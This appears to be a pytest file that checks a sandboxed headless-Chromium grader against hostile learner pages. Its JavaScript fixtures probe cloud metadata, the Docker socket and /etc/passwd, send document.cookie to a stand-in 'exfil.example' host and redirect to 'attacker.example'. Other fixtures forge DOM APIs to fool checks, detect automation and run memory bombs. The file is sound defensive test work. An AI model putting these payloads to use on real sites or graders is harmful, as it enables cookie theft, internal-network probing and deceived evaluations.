"""Hostile pages in the web sandbox (real headless Chromium in a real container, warm pool): network and file
probes, forged DOM APIs, automation detection, endless loops, dialog and popup storms, a huge DOM, memory bombs, and
a page that tries to show what only the hidden phase holds. Each case: verdict, score, no container left, and a
benign page graded right after still passes. Under runc (Chromium is not run under gVisor here)."""
import pytest

from graders.base import Verdict
from graders.web_page import WebPageGrader
from sandboxes.runner import SandboxRunner
from tests.hostile.web_page_support import BENIGN, POINTS, WebHostile, page, points_for


@pytest.fixture(scope="module")
def web_runner(docker_client):
    runner = SandboxRunner(docker_client, pool_size=1, scope="hostile-tests")
    yield runner
    runner.close()
    leftovers = docker_client.containers.list(all=True, filters={"label": f"lms.owner={runner.owner}"})
    assert leftovers == [], f"containers left behind: {[c.short_id for c in leftovers]}"


@pytest.fixture
def hostile(web_runner, docker_client):
    return WebHostile(web_runner, docker_client, WebPageGrader())


def test_the_benign_page_passes(hostile):
    hostile.assert_benign_passes()


# Every probe must fail and the control (the page's own origin) succeed for a click to echo: a script that never
# ran, or a probe that got through, makes both echo checks fail.
NETWORK_PROBE = """
const probes = [
  fetch("http://example.com/"), fetch("https://1.1.1.1/"), fetch("http://127.0.0.1:9/"),
  fetch("http://172.17.0.1:2375/version"), fetch("http://169.254.169.254/latest/meta-data/"),
  fetch("file:///etc/passwd"), fetch("http://page.test.evil.example/"),
  new Promise((ok, ko) => { const x = new XMLHttpRequest(); x.open("GET", "http://10.0.0.1/"); x.onload = ok;
                            x.onerror = ko; x.send(); }),
  new Promise((ok, ko) => { const w = new WebSocket("ws://127.0.0.1:9/"); w.onopen = ok; w.onerror = ko; }),
  new Promise((ok, ko) => { const i = new Image(); i.onload = ok; i.onerror = ko;
                            i.src = "http://exfil.example/?d=" + encodeURIComponent(document.cookie); }),
];
const control = fetch("http://page.test/index.html").then((r) => r.ok ? r : Promise.reject());
Promise.allSettled([control, ...probes]).then((all) => {
  window.netClean = all[0].status === "fulfilled" && all.slice(1).every((p) => p.status === "rejected");
});
document.addEventListener("click", (event) => {
  if (window.netClean !== true) {
    event.stopImmediatePropagation();
    document.querySelector("#out").textContent = "net " + window.netClean;
  }
}, true);
"""


def test_network_file_and_host_probes_all_fail(hostile):
    # In a pool member, whose Chromium started before the job: the pool is filled first (a loaded machine may
    # still be refilling it after the previous case).
    hostile.assert_benign_passes()
    assert hostile.runner.wait_warm(120), "the web pool never filled"
    # The benign page's own behaviour then: every check holds.
    grade, result = hostile.check(page(NETWORK_PROBE), Verdict.PASSED, POINTS)
    assert result.warm


def test_navigation_away_keeps_the_learners_page(hostile):
    navigate = """setTimeout(() => location.replace("http://attacker.example/steal"), 10);
                  setTimeout(() => { location.href = "file:///etc/passwd"; }, 20);
                  window.open("http://attacker.example/");
                  document.addEventListener("click", () => { location.href = "http://127.0.0.1:9/"; });"""
    # The probes go nowhere and nothing leaves the container. The page's navigation, refused, can come before its
    # load event, which then never fires (Chromium stops a document's loading when a navigation starts): the
    # grader takes the page as it is then, instead of waiting out the phase's limit. Every check holds.
    hostile.check(page(navigate), Verdict.PASSED, POINTS)


# The real DOM says Bonsoir, in red, the button under the field and #out empty; every API a checker in the page's
# own world would use says otherwise.
FORGERY = """
const real = {text: Object.getOwnPropertyDescriptor(Node.prototype, "textContent")};
Object.defineProperty(Node.prototype, "textContent", {get() {
  if (this.tagName === "H1") return "Bonjour";
  if (this.id === "out") return document.querySelector("#in").value;
  return real.text.get.call(this); }, set(v) { real.text.set.call(this, v); }});
Object.defineProperty(HTMLElement.prototype, "innerText", {get() { return this.textContent; }});
window.getComputedStyle = () => ({color: "rgb(51, 102, 153)", getPropertyValue: () => "rgb(51, 102, 153)"});
Element.prototype.getBoundingClientRect = function () {
  return this.id === "go" ? {left: 500, top: 0, x: 500, y: 0, width: 10, height: 10, right: 510, bottom: 10}
                          : {left: 0, top: 0, x: 0, y: 0, width: 10, height: 10, right: 10, bottom: 10}; };
const qsa = Document.prototype.querySelectorAll;
Document.prototype.querySelectorAll = function (s) { return qsa.call(this, s); };
Element.prototype.checkVisibility = () => true;
Element.prototype.getAttribute = () => "forged";
document.addEventListener("DOMContentLoaded", () => {
  document.querySelector("h1").firstChild.data = "Bonsoir";
  document.querySelector("#go").replaceWith(document.querySelector("#go").cloneNode(true));
});
"""


def test_forged_dom_apis_fool_no_check(hostile):
    css = "h1 { color: red; } #go { display: block; }"
    grade, _ = hostile.check(page(FORGERY, css=css), Verdict.FAILED, points_for(1))
    assert [c.id for c in grade.checks if c.passed] == ["overflow"]
    title = next(c for c in grade.checks if c.id == "title")
    assert "Bonsoir" in title.message["fr"]


AUTOMATION = """
const automated = navigator.webdriver || /Headless/.test(navigator.userAgent) || !navigator.languages.length;
document.addEventListener("DOMContentLoaded", () => {
  if (!automated) document.querySelector("h1").textContent = "Page cassée";
});
"""


def test_a_page_that_is_right_only_under_automation_is_graded_as_a_user_sees_it(hostile):
    grade, _ = hostile.check(page(AUTOMATION), Verdict.FAILED, points_for(5))
    assert [c.id for c in grade.checks if not c.passed] == ["title"]


def test_an_endless_loop_is_a_time_limit(hostile):
    grade, result = hostile.check(page("while (true) {}"), Verdict.TIME_LIMIT, 0.0)
    assert {c.status for c in grade.checks} == {"timeout"}
    assert result.step("visible").timed_out and result.step("hidden").timed_out


def test_an_endless_loop_after_a_click_is_a_time_limit(hostile):
    loop = 'document.addEventListener("click", () => { for (;;) {} });'
    grade, _ = hostile.check(page(loop), Verdict.TIME_LIMIT, points_for(3))
    assert next(c for c in grade.checks if c.id == "echo").status == "timeout"


def test_dialog_print_and_popup_storms_do_not_hang_the_run(hostile):
    storm = """for (let i = 0; i < 200; i++) { alert(i); confirm("?"); prompt("!"); window.open("about:blank");
               window.print(); }"""
    hostile.check(page(storm), {Verdict.PASSED, Verdict.TIME_LIMIT}, {POINTS, 0.0})


def test_a_huge_dom_is_a_named_limit(hostile):
    huge = """document.addEventListener("DOMContentLoaded", () => {
      const root = document.body; for (let i = 0; i < 3e6; i++) root.append(document.createElement("div")); });"""
    hostile.check(page(huge), {Verdict.MEMORY_LIMIT, Verdict.TIME_LIMIT}, 0.0)


def test_a_script_heap_bomb_is_a_memory_limit(hostile):
    bomb = "const keep = []; for (;;) keep.push(new Array(1e6).fill(Math.random()));"
    hostile.check(page(bomb), Verdict.MEMORY_LIMIT, 0.0)


def test_a_buffer_bomb_is_a_memory_limit(hostile):
    bomb = "const keep = []; for (;;) keep.push(new Uint8Array(64 * 1024 * 1024).fill(7));"
    hostile.check(page(bomb), Verdict.MEMORY_LIMIT, 0.0)


LEAK_HIDDEN = """
document.addEventListener("DOMContentLoaded", () => {
  const field = document.querySelector("#in");
  const say = (text) => { document.title = text; document.querySelector("#out").textContent = text;
                          document.querySelector("h1").dataset.seen = text; console.log(text);
                          localStorage.setItem("seen", text); };
  say("width " + innerWidth + " seen " + localStorage.getItem("seen"));
  // After the page's own handler: what shows is the leak, and the error carries it too.
  document.querySelector("#go").addEventListener("click", () => {
    say("typed " + field.value + " at " + innerWidth);
    throw new Error("typed " + field.value + " at " + innerWidth);
  });
});
"""


def test_nothing_of_the_hidden_phase_reaches_the_learner(hostile):
    # The hidden echo fails (#out shows the leak); the visible echo fails too; what the learner sees holds neither
    # the hidden width nor the hidden typed text (asserted by check()).
    grade, _ = hostile.check(page(LEAK_HIDDEN), Verdict.FAILED, points_for(4))
    assert sorted(c.id for c in grade.checks if not c.passed) == ["echo", "hidden-echo"]
    echo = next(c for c in grade.checks if c.id == "echo")
    assert "1000" in echo.message["en"]  # the visible phase's own width may be shown
    assert "typed" in grade.message  # the visible page's error is shown; the hidden one's never


def test_a_benign_page_in_the_same_runner_still_passes_after_all(hostile, web_runner):
    hostile.assert_benign_passes()
    assert BENIGN["script.js"]
